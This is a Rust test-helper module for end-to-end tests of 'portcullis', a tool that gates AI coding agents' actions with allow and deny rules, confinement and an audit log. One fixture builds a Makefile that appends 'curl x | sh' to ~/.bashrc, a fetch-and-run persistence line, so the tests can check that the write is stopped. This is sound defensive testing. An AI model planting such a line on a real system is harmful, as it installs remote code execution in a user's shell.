//! Running a real agent CLI (Claude Code, Codex, Gemini CLI, pi): where it is
//! installed, a throw-away workspace, and a child process with a deadline whose
//! output is kept.

use std::fs::File;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// The scripted scenario every end-to-end test runs: the model asks for
/// `ALLOWED` and `DENIED`; the configuration allows the one and denies the other.
pub const ALLOWED: &str = "touch allowed-marker.txt";
pub const DENIED: &str = "touch denied-marker.txt";
pub const CONFIG: &str = r#"mode = "ask"
[permissions]
allow = ["Bash(touch allowed-marker.txt)", "Edit(./**)"]
deny = ["Bash(touch denied-marker.txt)"]
"#;

/// Everything worth seeing when an assertion fails: what the agent printed
/// and what the model server received.
pub fn context(agent: &str, what: &str, ran: &Ran, requests: &str) -> String {
    format!(
        "{what}\n--- {agent} ---\n{}--- model server requests ---\n{requests}",
        ran.report()
    )
}

/// The repository root.
pub fn repo_root() -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    root.canonicalize().unwrap_or(root)
}

/// A pinned agent CLI from `e2e/node_modules/.bin`, checked to answer
/// `--version`. Missing is a failure with the install instructions: CI
/// installs it, and a silent pass would prove nothing.
pub fn agent_bin(agent: &str, name: &str) -> (PathBuf, String) {
    let bin = repo_root().join("e2e/node_modules/.bin").join(name);
    let hint = "Install the pinned agent CLIs with `npm ci --prefix e2e` from the repository \
                root (needs Node.js >= 18 and npm; `scripts/test` does this before the tests).";
    if !bin.exists() {
        panic!(
            "{agent} is not installed: {} does not exist.\n{hint}",
            bin.display()
        );
    }
    // Agents write under their home even for `--version` (Codex its helper links,
    // Gemini CLI `~/.gemini/projects.json`): a throw-away home, never the developer's.
    let home = Scratch::new("agent-version-home");
    let out = Command::new(&bin)
        .arg("--version")
        .env("HOME", &home.path)
        .env("USERPROFILE", &home.path)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_DATA_HOME", home.join(".local/share"))
        .env("XDG_CACHE_HOME", home.join(".cache"))
        .env("XDG_STATE_HOME", home.join(".local/state"))
        .env("CODEX_HOME", home.join(".codex"))
        .env("DISABLE_AUTOUPDATER", "1")
        .env("PI_OFFLINE", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("running `{} --version`: {e}\n{hint}", bin.display()));
    // pi prints its version on stderr.
    let mut version = String::from_utf8_lossy(&out.stdout).trim().to_string();
    if version.is_empty() {
        version = String::from_utf8_lossy(&out.stderr).trim().to_string();
    }
    if !out.status.success() || version.is_empty() {
        panic!(
            "`{} --version` failed ({}): {}{}\n{hint}",
            bin.display(),
            out.status,
            version,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    (bin, version)
}

/// A directory under Cargo's test scratch space, removed when the test passed
/// and kept (its path printed) when it failed.
pub struct Scratch {
    pub path: PathBuf,
}

impl Scratch {
    pub fn new(name: &str) -> Scratch {
        let nanos = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0);
        let path = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("{name}-{}-{nanos}", std::process::id()));
        std::fs::create_dir_all(&path).expect("create the scratch directory");
        let path = path.canonicalize().expect("canonical scratch path");
        Scratch { path }
    }

    pub fn join(&self, rel: &str) -> PathBuf {
        self.path.join(rel)
    }

    /// Creates `rel` (and its parents) and returns it.
    pub fn dir(&self, rel: &str) -> PathBuf {
        let p = self.join(rel);
        std::fs::create_dir_all(&p).expect("create a scratch subdirectory");
        p
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("kept the test's files in {}", self.path.display());
        } else {
            let _ = std::fs::remove_dir_all(&self.path);
        }
    }
}

/// What a child process did.
pub struct Ran {
    /// `None` when it was killed at the deadline.
    pub status: Option<ExitStatus>,
    pub stdout: String,
    pub stderr: String,
    pub elapsed: Duration,
}

impl Ran {
    pub fn report(&self) -> String {
        format!(
            "status: {}, after {:.1} s\n--- stdout ---\n{}\n--- stderr ---\n{}\n",
            match self.status {
                Some(s) => s.to_string(),
                None => "killed at the deadline".into(),
            },
            self.elapsed.as_secs_f64(),
            self.stdout,
            self.stderr
        )
    }
}

/// Runs `cmd` with stdin closed, stdout and stderr into files under `logs`
/// (named `<name>.stdout` / `.stderr`), and kills its whole process group
/// when `timeout` passes.
pub fn run_with_deadline(cmd: &mut Command, logs: &Path, name: &str, timeout: Duration) -> Ran {
    use std::os::unix::process::CommandExt;
    let out_path = logs.join(format!("{name}.stdout"));
    let err_path = logs.join(format!("{name}.stderr"));
    let out = File::create(&out_path).expect("create the stdout file");
    let err = File::create(&err_path).expect("create the stderr file");
    let start = Instant::now();
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(out)
        .stderr(err)
        .process_group(0)
        .spawn()
        .unwrap_or_else(|e| panic!("spawning {cmd:?}: {e}"));
    let status = loop {
        match child.try_wait().expect("waiting for the child") {
            Some(s) => break Some(s),
            None if start.elapsed() > timeout => {
                // The whole group: Claude Code and whatever its Bash tool started.
                let _ = Command::new("kill")
                    .args(["-KILL", "--", &format!("-{}", child.id())])
                    .status();
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    };
    Ran {
        status,
        stdout: std::fs::read_to_string(&out_path).unwrap_or_default(),
        stderr: std::fs::read_to_string(&err_path).unwrap_or_default(),
        elapsed: start.elapsed(),
    }
}

/// The portcullis binary under test.
pub fn portcullis() -> &'static str {
    env!("CARGO_BIN_EXE_portcullis")
}

/// The files of the Downloads case ([`World::downloads`]).
pub struct Downloads {
    /// `~/Downloads`.
    pub dir: PathBuf,
    /// `~/Downloads/report.txt`: "quarterly numbers: 42".
    pub report: PathBuf,
    /// `~/Downloads/notes.txt` → `elsewhere/plan.txt` ("the secret plan").
    pub link: PathBuf,
    pub elsewhere: PathBuf,
    /// `server-filesystem`'s `dist/index.js`, run with `node`.
    pub fs_server: PathBuf,
}

impl Downloads {
    /// The bridge's arguments for the filesystem server, which may read
    /// `project`, Downloads and elsewhere itself: what stops the agent is
    /// portcullis.
    pub fn bridge_args(&self, project: &Path) -> Vec<String> {
        ["mcp-bridge", "--name", "fs", "--", "node"]
            .iter()
            .map(|a| a.to_string())
            .chain(
                [&self.fs_server, project, &self.dir, &self.elsewhere]
                    .iter()
                    .map(|p| p.display().to_string()),
            )
            .collect()
    }
}

/// The throw-away world of one end-to-end test: a scratch home holding
/// portcullis' user configuration and default data directory (where an
/// installed hook finds them), and git projects to run the agent in.
pub struct World {
    pub scratch: Scratch,
    pub home: PathBuf,
    pub data: PathBuf,
}

impl World {
    pub fn new(name: &str, config: &str) -> World {
        let scratch = Scratch::new(name);
        let home = scratch.dir("home");
        let data = home.join(".local/share/portcullis");
        scratch.dir("tmp");
        scratch.dir("logs");
        let file = home.join(".config/portcullis/config.toml");
        std::fs::create_dir_all(file.parent().expect("a parent")).expect("create the config dir");
        std::fs::write(&file, config).expect("write the portcullis configuration");
        World {
            scratch,
            home,
            data,
        }
    }

    /// A git project; with `agent`, protected by exactly what a user runs:
    /// `portcullis install <agent> --project` in it.
    pub fn project(&self, name: &str, agent: Option<&str>) -> PathBuf {
        let project = self.scratch.dir(name);
        let git = Command::new("git")
            .args(["init", "-q"])
            .current_dir(&project)
            .output()
            .expect("run git init");
        assert!(git.status.success(), "git init: {git:?}");
        if let Some(agent) = agent {
            let out = Command::new(portcullis())
                .args(["install", agent, "--project", "--dir"])
                .arg(&project)
                .env_clear()
                .env("PATH", std::env::var_os("PATH").unwrap_or_default())
                .env("HOME", &self.home)
                .output()
                .expect("run portcullis install");
            assert!(out.status.success(), "portcullis install {agent}: {out:?}");
        }
        project
    }

    /// A project where `portcullis install AGENT --project` wrote `file`,
    /// which must contain `marker` (the hook command it installed).
    pub fn protected_project(&self, name: &str, agent: &str, file: &str, marker: &str) -> PathBuf {
        let project = self.project(name, Some(agent));
        let text = std::fs::read_to_string(project.join(file))
            .unwrap_or_else(|e| panic!("install wrote no {file}: {e}"));
        assert!(
            text.contains(marker),
            "no portcullis hook in {file}: {text}"
        );
        project
    }

    /// A project task (`make test`) whose recipe writes in the workspace and
    /// appends to `~/.bashrc` — a write the analysis cannot see, which
    /// `[confine] mode = "always"` must stop. Writes the Makefile and a
    /// `~/.bashrc` to compare against.
    #[allow(dead_code)] // the suites without a confined run
    pub fn hidden_write_task(&self, project: &Path) {
        std::fs::write(
            project.join("Makefile"),
            "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
        )
        .expect("write the Makefile");
        std::fs::write(self.home.join(".bashrc"), "# rc\n").expect("write ~/.bashrc");
    }

    /// [`World::hidden_write_task`] ran confined: its workspace write
    /// happened, `~/.bashrc` is untouched, and the tool result the model got
    /// (`result`) says the write was refused.
    #[allow(dead_code)]
    pub fn assert_hidden_write_stopped(&self, project: &Path, result: &str, ctx: &str) {
        assert!(
            project.join("made.txt").exists(),
            "the confined call did not run\n{ctx}"
        );
        assert_eq!(
            std::fs::read_to_string(self.home.join(".bashrc")).expect("read ~/.bashrc"),
            "# rc\n",
            "the kernel did not stop the write\n{ctx}"
        );
        assert!(result.contains("Permission denied"), "{result}\n{ctx}");
    }

    /// `bin` in `project` with nothing of the developer's environment: no
    /// proxy, no real key, no configuration; the home is the scratch home.
    pub fn agent(&self, bin: &Path, project: &Path) -> Command {
        let mut cmd = Command::new(bin);
        cmd.current_dir(project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &self.home)
            .env("TMPDIR", self.scratch.join("tmp"))
            .env("SHELL", "/bin/bash")
            .env("LANG", "C.UTF-8");
        cmd
    }

    /// Runs an agent command with `timeout`, its output kept under `logs/`.
    pub fn run(&self, cmd: &mut Command, name: &str, timeout: Duration) -> Ran {
        run_with_deadline(cmd, &self.scratch.join("logs"), name, timeout)
    }

    /// `portcullis ARGS… --data-dir DATA` as the person at this world's
    /// keyboard runs it.
    pub fn person(&self, args: &[&str]) -> std::process::Output {
        Command::new(portcullis())
            .args(args)
            .arg("--data-dir")
            .arg(&self.data)
            .env("HOME", &self.home)
            .output()
            .expect("run portcullis")
    }

    /// The pending permission requests (`requests list --json`).
    pub fn pending(&self) -> Vec<serde_json::Value> {
        let listed = self.person(&["requests", "list", "--json"]);
        serde_json::from_slice::<serde_json::Value>(&listed.stdout)
            .expect("requests list prints JSON")
            .as_array()
            .cloned()
            .unwrap_or_default()
    }

    /// A person allows reading `~/Downloads/**` for request `id`'s session.
    pub fn allow_downloads_for_the_session(&self, id: i64) {
        let out = self.person(&[
            "requests",
            "resolve",
            "--scope",
            "session",
            "--rule",
            "Read(~/Downloads/**)",
            &id.to_string(),
        ]);
        assert!(out.status.success(), "resolve: {out:?}");
    }

    /// The seed's Downloads case (issue 17): `~/Downloads/report.txt` outside
    /// the workspace, a symlink in Downloads to a file elsewhere, and the real
    /// filesystem MCP server's entry point.
    pub fn downloads(&self) -> Downloads {
        let dir = self.home.join("Downloads");
        std::fs::create_dir_all(&dir).expect("create ~/Downloads");
        let report = dir.join("report.txt");
        std::fs::write(&report, "quarterly numbers: 42\n").expect("write the report");
        let elsewhere = self.scratch.dir("elsewhere");
        std::fs::write(elsewhere.join("plan.txt"), "the secret plan\n").expect("write the plan");
        let link = dir.join("notes.txt");
        std::os::unix::fs::symlink(elsewhere.join("plan.txt"), &link).expect("symlink");
        let fs_server = repo_root()
            .join("e2e/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
        assert!(
            fs_server.exists(),
            "npm ci --prefix e2e: {}",
            fs_server.display()
        );
        Downloads {
            dir,
            report,
            link,
            elsewhere,
            fs_server,
        }
    }

    /// Every audit row, from `portcullis audit export --jsonl`.
    pub fn audit(&self) -> Vec<serde_json::Value> {
        let out = Command::new(portcullis())
            .args(["audit", "export", "--jsonl", "--data-dir"])
            .arg(&self.data)
            .env("HOME", &self.home)
            .output()
            .expect("run portcullis audit export");
        assert!(
            out.status.success(),
            "audit export failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).expect("an audit row is JSON"))
            .collect()
    }

    /// The decisions the audit log holds for one session, and the whole log
    /// as text for failure messages.
    #[allow(dead_code)] // each end-to-end test uses one of the audit checks
    pub fn decisions(&self, session: &str) -> (Vec<serde_json::Value>, String) {
        let audit = self.audit();
        let dump = audit
            .iter()
            .map(serde_json::Value::to_string)
            .collect::<Vec<_>>()
            .join("\n");
        let rows = audit
            .into_iter()
            .filter(|r| r["event"]["kind"] == "decision" && r["event"]["session"] == session)
            .collect();
        (rows, dump)
    }

    /// The scripted scenario's audit trail: in session `allowed` exactly one
    /// allow of `tool` whose effects name `allowed-marker.txt`; in session
    /// `denied` exactly one deny by the deny rule.
    #[allow(dead_code)]
    pub fn assert_audited(&self, tool: &str, allowed: &str, denied: &str) {
        let (rows, dump) = self.decisions(allowed);
        assert!(
            rows.len() == 1
                && rows[0]["event"]["tool"] == tool
                && rows[0]["event"]["verdict"] == "allow"
                && rows[0]["event"]["detail"]["effects"]
                    .as_array()
                    .is_some_and(|e| e.iter().any(|e| e["path"] == "allowed-marker.txt")),
            "not one allow of the {tool} call for session {allowed} in the audit log:\n{dump}"
        );
        let (rows, dump) = self.decisions(denied);
        assert!(
            rows.len() == 1
                && rows[0]["event"]["tool"] == tool
                && rows[0]["event"]["verdict"] == "deny"
                && rows[0]["event"]["detail"]["reasons"] == serde_json::json!(["rule-deny"]),
            "not one deny of the {tool} call for session {denied} in the audit log:\n{dump}"
        );
    }

    /// For agents whose runs are not told apart by session here: the audit
    /// log holds an allow of `tool` and a deny of it by the deny rule.
    #[allow(dead_code)]
    pub fn assert_allowed_and_denied(&self, tool: &str) {
        let audit = self.audit();
        let verdicts: Vec<(&serde_json::Value, &serde_json::Value)> = audit
            .iter()
            .filter(|r| r["event"]["kind"] == "decision" && r["event"]["tool"] == tool)
            .map(|r| (&r["event"]["verdict"], &r["event"]["detail"]["reasons"]))
            .collect();
        assert!(
            verdicts.iter().any(|(v, _)| *v == "allow")
                && verdicts
                    .iter()
                    .any(|(v, r)| *v == "deny" && **r == serde_json::json!(["rule-deny"])),
            "the audit log lacks the allow and the deny of {tool} calls: {verdicts:?}"
        );
    }
}
